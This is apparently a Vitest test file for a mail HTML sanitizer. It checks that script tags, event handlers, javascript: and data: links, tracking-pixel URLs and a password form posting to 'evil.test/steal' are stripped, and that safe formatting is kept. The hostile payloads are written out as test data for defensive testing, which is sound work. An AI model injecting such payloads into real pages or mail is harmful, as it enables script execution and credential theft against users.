import { describe, expect, it } from 'vitest';
import { sanitizeMailHtml } from './sanitize-html.ts';

// Hostile mail HTML: whatever it tries, nothing that runs, submits, navigates or loads survives.
const hostile: [string, string, RegExp[]][] = [
  ['a script element', '<p>Hi</p><script>alert(1)</script>', [/<script/i, /alert/]],
  ['an onerror handler', '<img src="x" onerror="alert(1)">', [/onerror/i, /alert/]],
  ['a javascript: link', '<a href="javascript:alert(1)">click</a>', [/javascript:/i, /href/]],
  ['a javascript: link in disguise', '<a href=" JaVaScRiPt&#58;alert(1)">click</a>', [/javascript/i, /href/]],
  ['an svg with onload', '<svg onload="alert(1)"><circle r="5"/></svg>', [/<svg/i, /onload/i]],
  [
    'an iframe with srcdoc',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    [/<iframe/i, /srcdoc/i, /script/i],
  ],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.test">', [/<meta/i, /refresh/i]],
  [
    'a style element',
    '<style>body{background:url(https://t.test/p.gif)}</style><p>x</p>',
    [/<style/i, /t\.test/],
  ],
  [
    'a url() in a style attribute',
    '<p style="background-image:url(https://t.test/p.gif);color:red">x</p>',
    [/url\(/i, /t\.test/],
  ],
  ['an expression() in a style attribute', '<p style="width:expression(alert(1))">x</p>', [/expression/i]],
  [
    'a form with inputs',
    '<form action="https://evil.test/steal"><input name="pw"><button>Go</button></form>',
    [/<form/i, /<input/i, /<button/i, /evil\.test/],
  ],
  ['an object and an embed', '<object data="x.swf"></object><embed src="x.swf">', [/<object/i, /<embed/i]],
  [
    'a base and a link',
    '<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/s.css">',
    [/<base/i, /<link/i, /evil/],
  ],
  ['an onclick on a table cell', '<table><tr><td onclick="alert(1)">x</td></tr></table>', [/onclick/i]],
  ['a protocol-relative image', '<img src="//t.test/p.gif">', [/t\.test/]],
  ['a remote srcset', '<img srcset="https://t.test/p.gif 1x">', [/srcset/i, /t\.test/]],
  ['a forged data-remote-src', '<img data-remote-src="https://t.test/p.gif">', [/t\.test/]],
  ['an html data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', [/data:/i, /script/i]],
  ['an svg data: image', '<img src="data:text/html;base64,PHNjcmlwdD4=">', [/data:text/i]],
];

describe('sanitizeMailHtml: hostile input', () => {
  it.each(hostile)('removes %s', (_name, dirty, forbidden) => {
    const { html } = sanitizeMailHtml(dirty);
    for (const pattern of forbidden) expect(html).not.toMatch(pattern);
  });
});

const kept: [string, string, string, boolean][] = [
  [
    'formatting',
    '<p><b>Bold</b> <i>it</i> <u>u</u></p><ul><li>one</li></ul>',
    '<p><b>Bold</b> <i>it</i> <u>u</u></p><ul><li>one</li></ul>',
    false,
  ],
  [
    'a table',
    '<table border="1"><tr><td colspan="2">x</td></tr></table>',
    '<table border="1"><tr><td colspan="2">x</td></tr></table>',
    false,
  ],
  [
    'a link, opened apart',
    '<a href="https://acme.test/x">x</a>',
    '<a href="https://acme.test/x" rel="noopener noreferrer" target="_blank">x</a>',
    false,
  ],
  [
    'a mailto link',
    '<a href="mailto:sam@acme.test">Sam</a>',
    '<a href="mailto:sam@acme.test" rel="noopener noreferrer" target="_blank">Sam</a>',
    false,
  ],
  ['a relative link, without its href', '<a href="/x">x</a>', '<a>x</a>', false],
  [
    'a remote image, not loaded',
    '<img src="https://t.test/p.gif" alt="Logo">',
    '<img alt="Logo" data-remote-src="https://t.test/p.gif" />',
    true,
  ],
  [
    'a data: image',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot">',
    '<img alt="dot" src="data:image/png;base64,iVBORw0KGgo=" />',
    false,
  ],
  ['a cid: image', '<img src="cid:logo@acme.test">', '<img src="cid:logo@acme.test" />', false],
  [
    'a safe inline style',
    '<p style="color:#c00;font-weight:bold;position:fixed">x</p>',
    '<p style="color:#c00;font-weight:bold">x</p>',
    false,
  ],
  ['the text of a dropped wrapper', '<form><p>Please confirm</p></form>', '<p>Please confirm</p>', false],
];

describe('sanitizeMailHtml: what stays', () => {
  it.each(kept)('keeps %s', (_name, dirty, clean, remote) => {
    expect(sanitizeMailHtml(dirty)).toEqual({ html: clean, hasRemoteImages: remote });
  });
});
